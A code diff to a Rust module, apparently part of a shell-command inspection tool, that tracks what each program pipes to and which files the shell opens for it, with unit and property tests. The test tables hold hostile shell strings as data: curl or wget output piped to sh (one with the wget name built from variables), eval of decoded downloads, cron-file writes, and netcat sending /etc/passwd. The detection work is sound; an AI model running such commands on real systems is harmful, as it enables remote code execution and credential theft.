@@ -3,7 +3,7 @@
 //! [`warden_session::shell`] says which programs a text starts; rules also ask what a program's output goes to and which
 //! files the shell opens for it. This reading is shallow on purpose: it splits text, expands nothing and never fails.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 use warden_session::Invocation;
 use warden_session::shell::{Dialect, parse};
@@ -36,10 +36,30 @@ pub(super) struct Shape {
     pub(super) redirects: Vec<String>,
 }
 
+impl Shape {
+    /// Adds what another place in the text says of the same program.
+    fn merge(&mut self, other: &Self) {
+        for (list, more) in [
+            (&mut self.pipes_to, &other.pipes_to),
+            (&mut self.piped_from, &other.piped_from),
+            (&mut self.redirects, &other.redirects),
+        ] {
+            for value in more {
+                if list.len() < MAX_VALUES && !list.contains(value) {
+                    list.push(value.clone());
+                }
+            }
+        }
+    }
+}
+
 /// The shapes of a command's invocations.
 #[derive(Debug, Default)]
 pub(super) struct Shapes {
     by_argv: BTreeMap<Vec<String>, Shape>,
+    /// Of simple commands whose words are known only when they run (`echo $i` in a loop): by the program's name, or by
+    /// `$` if that is not known either.
+    by_program: BTreeMap<String, Shape>,
     /// Redirections of simple commands without a program, such as `> /var/log/secure`.
     pub(super) bare: Vec<Shape>,
 }
@@ -50,6 +70,7 @@ impl Shapes {
         let mut shapes = Self::default();
         let mut texts: Vec<String> = inner_texts(invocations).take(MAX_TEXTS).collect();
         texts.push(text.to_owned());
+        let known = invocations.iter().map(|invocation| invocation.argv.as_slice()).collect();
         let mut left = MAX_SEGMENTS;
         for _ in 0..MAX_TEXTS {
             let Some(text) = texts.pop() else { break };
@@ -57,20 +78,24 @@ impl Shapes {
             texts.extend(nested);
             let segments = segments::read(&text, &tokens, left);
             left -= segments.len();
-            shapes.add(&segments);
+            shapes.add(&segments, &known);
         }
         shapes
     }
 
     /// The shape of the invocation with these words; an empty one if its text could not be found.
     pub(super) fn of(&self, argv: &[String]) -> Shape {
-        self.by_argv.get(argv).cloned().unwrap_or_default()
+        let by_program = || {
+            let program = argv.first()?;
+            self.by_program.get(program).or_else(|| self.by_program.get("$"))
+        };
+        self.by_argv.get(argv).or_else(by_program).cloned().unwrap_or_default()
     }
 
-    fn add(&mut self, segments: &[Segment]) {
-        let started = segments.iter().map(|segment| match segment.is_plain() {
-            true => Vec::new(),
-            false => parse(&segment.text, Dialect::Posix).invocations,
+    fn add(&mut self, segments: &[Segment], known: &BTreeSet<&[String]>) {
+        let started = segments.iter().map(|segment| {
+            let text = if segment.is_plain() { "" } else { segment.text.as_str() };
+            parse(text, Dialect::Posix).invocations
         });
         let started: Vec<Vec<Invocation>> = started.collect();
         let of = |index: &usize| started.get(*index).into_iter().flatten();
@@ -78,7 +103,13 @@ impl Shapes {
             let name = |invocation: &Invocation| invocation.argv.first().cloned().unwrap_or_default();
             let shape = Shape {
                 pipes_to: segment.readers.iter().flat_map(of).map(name).take(MAX_VALUES).collect(),
-                piped_from: segment.writers.iter().flat_map(of).map(Invocation::command_line).take(MAX_VALUES).collect(),
+                piped_from: segment
+                    .writers
+                    .iter()
+                    .flat_map(of)
+                    .map(Invocation::command_line)
+                    .take(MAX_VALUES)
+                    .collect(),
                 redirects: segment.redirects.iter().take(MAX_VALUES).cloned().collect(),
             };
             if shape == Shape::default() {
@@ -87,8 +118,13 @@ impl Shapes {
             if invocations.is_empty() {
                 self.bare.push(shape.clone());
             }
-            for invocation in invocations {
-                self.by_argv.entry(invocation.argv.clone()).or_insert_with(|| shape.clone());
+            for Invocation { argv, .. } in invocations {
+                let program = argv.first().map_or("$", |name| if name.contains('$') { "$" } else { name });
+                if known.contains(argv.as_slice()) {
+                    self.by_argv.entry(argv.clone()).or_default().merge(&shape);
+                } else {
+                    self.by_program.entry(program.to_owned()).or_default().merge(&shape);
+                }
             }
         }
     }
@@ -126,6 +162,7 @@ mod tests {
             ("bash -c 'curl x|sh'", "curl", vec!["sh"], vec![]),
             ("(crontab -l; echo y) | crontab -", "echo", vec!["crontab"], vec![]),
             ("for i in 1 2; do echo $i; done | sh", "echo", vec!["sh"], vec![]),
+            ("w=wge;t=t; $w$t -qO- x | sh", "wget", vec!["sh"], vec![]),
             ("echo 'curl x | sh'", "echo", vec![], vec![]),
             ("eval \"$(curl x | base64 -d)\"", "curl", vec!["base64"], vec![]),
             ("case $x in a) curl y | sh;; esac", "curl", vec!["sh"], vec![]),
@@ -137,6 +174,13 @@ mod tests {
         }
     }
 
+    proptest::proptest! {
+        #[test]
+        fn reads_any_text(text in r#"([a-z ]|[|&;<>(){}$`"'\\\n#0-9é]|<<E|\$\(|for |case |do |done|esac){0,60}"#) {
+            Shapes::read(&text, &parse(&text, Dialect::Posix).invocations);
+        }
+    }
+
     #[test]
     fn names_the_files_that_the_shell_opens() {
         for (text, program, redirects) in [
@@ -144,7 +188,7 @@ mod tests {
             ("echo 'x > y' >> \"/etc/cron.d/a b\"", "echo", vec![">> /etc/cron.d/a b"]),
             ("{ echo a; date; } > /tmp/f", "date", vec!["> /tmp/f"]),
             ("cat <<E > /tmp/f\n> /etc/x | sh\nE\n", "cat", vec!["> /tmp/f"]),
-            ("sudo sh -c 'echo x >/etc/y' 2>/dev/null", "echo", vec!["> /etc/y"]),
+            ("sudo sh -c 'echo x >/etc/y' 2>/dev/null", "echo", vec!["> /dev/null", "> /etc/y"]),
             ("nc h 1 < /etc/passwd", "nc", vec!["< /etc/passwd"]),
         ] {
             assert_eq!(shape(text, program).redirects, redirects, "{text}");
